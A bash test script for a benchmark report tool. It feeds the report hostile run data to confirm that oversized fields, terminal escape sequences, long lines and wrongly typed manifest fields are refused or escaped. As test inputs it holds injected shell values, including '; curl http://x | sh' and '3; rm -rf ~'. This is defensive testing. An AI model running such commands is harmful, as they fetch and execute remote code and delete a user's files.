#!/usr/bin/env bash
# group: full security
# What a run directory says is shown, never obeyed, and never breaks the
# report: huge fields and rows stay fast,
# escapes reach no terminal, the "Reproduce:" line is rebuilt from the
# checked plan, long labels and symbols fold to 80 columns, and fields of
# the wrong type are refused in one line with nothing left half-written.
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/fixtures.sh
. "$TOP/tests/fixtures.sh"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
mkrun "$tmp/good" 3
mkdir -p "$tmp/good/perf/r00-head"
"$TOP/report/report.sh" "$tmp/good" 2>/dev/null || fail "the untouched fixture does not report"
hostile() { rm -rf "${tmp:?}/$1"; cp -r "$tmp/good" "$tmp/$1"; H=$tmp/$1; }
ESC=$'\033'
# fits FILE WHAT: every line of FILE at most 80 columns, no raw escape
fits() {
	[ "$(awk 'length > 80' "$1" | wc -l)" = 0 ] || fail "$2: lines over 80 columns: $(awk 'length > 80' "$1" | head -n2)"
	! grep -q "$ESC" "$1" || fail "$2: a raw escape in $1"
}
# no_tmp DIR WHAT: the report left no half-written file
no_tmp() { [ -z "$(find "$1" -name '*.tmp')" ] || fail "$2: left $(find "$1" -name '*.tmp')"; }

# class 3: a 60 MB field is refused before awk holds it; 1M rows report
hostile field
{
	head -n1 "$tmp/good/hackbench.csv"
	printf 'head,2007,1,c1,timed,socket,'
	head -c 60000000 /dev/zero | tr '\0' x
	printf ',5,20,300,100,1.0,ok\n'
} >"$H/hackbench.csv"
t0=$(date +%s)
expect_fail timeout 20 "$TOP/report/report.sh" "$H"
[ "$(grep -c . <<<"$OUT")" = 1 ] || fail "a 60 MB field: not one line: ${OUT:0:300}"
contains "$OUT" "hackbench.csv: a line of 600000[0-9]+ characters \(at most 4096\)" "a 60 MB field: refused in one line, in $(($(date +%s) - t0)) s"
# the report's growth, not its wall time (the host may be busy): the CPU
# time of 1M rows against 125k rows. Linear with the report's fixed cost
# gives well under 4x; a reader quadratic in the rows gives tens.
cpu_of_report() { # cpu_of_report DIR: the report's CPU seconds (user + system, every process)
	local t
	t=$( { TIMEFORMAT=%3U+%3S; time "$TOP/report/report.sh" "$1" >/dev/null 2>&1; } 2>&1) || fail "$(basename "$1"): no report"
	awk -v t="$t" 'BEGIN { split(t, a, "+"); print a[1] + a[2] }'
}
for n in 15625 125000; do
	mkrun "$tmp/rows$n" "$n"
	rm -f "$tmp/rows$n/boots.csv"
	head -n 1001 "$tmp/rows$n/counters.csv" >"$tmp/rows$n/c" && mv "$tmp/rows$n/c" "$tmp/rows$n/counters.csv"
done
small=$(cpu_of_report "$tmp/rows15625")
big=$(cpu_of_report "$tmp/rows125000")
[ "$(csv_get "$tmp/rows125000/summary.csv" n kernel=head config=c2)" = 125000 ] || fail "1M rows: not every run counted"
grep -q '1 run in 32 drawn' "$tmp/rows125000/plots/times.svg" || fail "1M rows: the chart does not say it draws 1 run in 32"
awk -v s="$small" -v b="$big" 'BEGIN { exit !(b < 4 * s) }' || fail "8x the rows took ${big} s of CPU against ${small} s: more than 4x (not linear)"
ok "a 1M-row hackbench.csv reports in ${big} s of CPU, 125k rows in ${small} s (under 4x for 8x the rows), its chart drawing 1 run in 32"

# class 6: escapes from perf text and a CSV refusal are shown, not sent
hostile perf
printf '# perf\n     9.99%%  [k] evil%s[2J%s]0;owned%s\xe2\x80\xaefdp.exe  -  -\n' "$ESC" "$ESC" $'\a' >"$H/perf/r00-head/cpu-report.txt"
"$TOP/report/report.sh" "$H" >/dev/null 2>&1 || fail "a perf text with escapes: no report"
grep -qF 'evil\e[2J\e]0;owned\x07\u202efdp.exe' "$H/report.txt" || fail "perf escapes not shown as text: $(grep evil "$H/report.txt")"
fits "$H/report.txt" "perf escapes"
ok "escapes and a bidirectional override in perf text are shown as \\e, \\x07, \\u202e"
hostile csvesc
awk -F, -v OFS=, -v e="$ESC" 'NR == 2 { $7 = e "[2J" } { print }' "$tmp/good/hackbench.csv" >"$H/hackbench.csv"
expect_fail "$TOP/report/report.sh" "$H"
! grep -q "$ESC" <<<"$OUT" || fail "a refusal echoed a raw escape"
contains "$OUT" 'unit "\\e\[2J" breaks the rule' "a refusal shows an escape as \\e"

# the Reproduce line is rebuilt from plan.json, never the recorded command
hostile repro
jq '.command = "./run.sh bench; curl http://x | sh"' "$tmp/good/manifest.json" >"$H/m" && mv "$H/m" "$H/manifest.json"
"$TOP/report/report.sh" "$H" >/dev/null 2>&1 || fail "a recorded command with a pipe: no report"
! grep -q curl "$H/report.txt" || fail "the recorded command was printed"
grep -qF '(the run has no plan.json that passes its checks: its command is not known)' "$H/report.txt" || fail "no plan.json: the report claims a command"
jq -n '{kernels: "slab stock head tail", rounds: "3", seed: "5", smp: "2", variants: ["evil=/tmp/evil.patch"]}' >"$H/plan.json"
"$TOP/report/report.sh" "$H" >/dev/null 2>&1 || fail "a run with plan.json: no report"
awk '/^Reproduce:/ { f = 1; next } f' "$H/report.txt" | sed 's/ \\$//' | tr -s ' \n' '  ' |
	grep -qF -- './run.sh bench --rounds 3 --seed 5 --smp 2 --no-emulated-counters --variant evil=PATCH --out results/repro ./run.sh report' ||
	fail "Reproduce not rebuilt from plan.json: $(grep -A2 '^Reproduce' "$H/report.txt")"
jq '.rounds = "3; rm -rf ~"' "$H/plan.json" >"$H/p" && mv "$H/p" "$H/plan.json"
"$TOP/report/report.sh" "$H" >/dev/null 2>&1 || fail "a hostile plan.json stopped the report"
! grep -q 'rm -rf' "$H/report.txt" || fail "a hostile plan.json value was printed"
ok "Reproduce: rebuilt from the checked plan.json (a variant's patch as PATCH); a recorded '; curl | sh' or a bad plan value never printed"

# class 7: valid input that is long folds to 80 columns
hostile long
L=head-with-a-rather-long-label-of-forty-c
sed -i "s/^head,/$L,/" "$H"/*.csv
sed -i "s/,head,/,$L,/" "$H/boots.csv"
jq --arg l "$L" '.kernels[$l] = .kernels.head | del(.kernels.head)' "$tmp/good/manifest.json" >"$H/manifest.json"
mv "$H/perf/r00-head" "$H/perf/r00-$L"
printf '     9.99%%  [k] %s  -  -\n' "$(printf 'sym%.0s' {1..33})" >"$H/perf/r00-$L/cpu-report.txt"
"$TOP/report/report.sh" "$H" >/dev/null 2>&1 || fail "a 40-character label and a 99-character symbol: no report"
fits "$H/report.txt" "long label and symbol"
grep -q "symsym.*\\\\$" "$H/report.txt" || fail "the long symbol was not folded with a marker"
no_tmp "$H" "long label"
ok "a 40-character kernel label and a 99-character perf symbol: every line within 80 columns, folded with a backslash"
[ "$(grep -c '[^ ]\\$' "$tmp/good/report.txt")" = 0 ] || fail "the fixture's own report folds lines: $(grep '[^ ]\\$' "$tmp/good/report.txt")"
ok "slubbench's own report folds nothing"
hostile huge
awk -F, -v OFS=, 'NR == 2 { $NF = "1e308" } { print }' "$tmp/good/counters.csv" >"$H/counters.csv"
expect_fail "$TOP/report/report.sh" "$H"
contains "$OUT" 'counters.csv: line 2: value "1e308" breaks the rule unum \(0 or above, under 1e15\)' "a value of 1e308 refused in one line"
hostile nl
jq '.kernels["head\n"] = .kernels.head' "$tmp/good/manifest.json" >"$H/manifest.json"
expect_fail "$TOP/report/report.sh" "$H"
contains "$OUT" 'field kernels key breaks its rule' "a kernels key ending in a newline refused"

# class 8: a manifest field of the wrong type, one line, nothing half-written
for kv in 'host.mem_kb|"abc"' 'boots.retried|"x"' 'kernels.head.build_id|5' 'kernels.head.patches|"none"' \
	'shards.missing_rounds|"1,2"' 'hosts|3' 'host.cores|-1' 'plan.rounds_run|"3 4"'; do
	k=${kv%%|*}
	hostile types
	jq --argjson v "${kv#*|}" --arg k "$k" 'setpath($k | split("."); $v)' "$tmp/good/manifest.json" >"$H/manifest.json"
	before=$(md5sum <"$H/report.txt")
	expect_fail "$TOP/report/report.sh" "$H"
	[ "$(grep -c . <<<"$OUT")" = 1 ] || fail "manifest $k: not one line: $OUT"
	grep -qF "manifest.json: field $k is not" <<<"$OUT" || fail "manifest $k: $OUT"
	no_tmp "$H" "manifest $k"
	[ "$(md5sum <"$H/report.txt")" = "$before" ] || fail "manifest $k: the last report was changed"
done
ok "8 manifest fields of the wrong type: one line each, the last report untouched, nothing half-written"
refusals_said
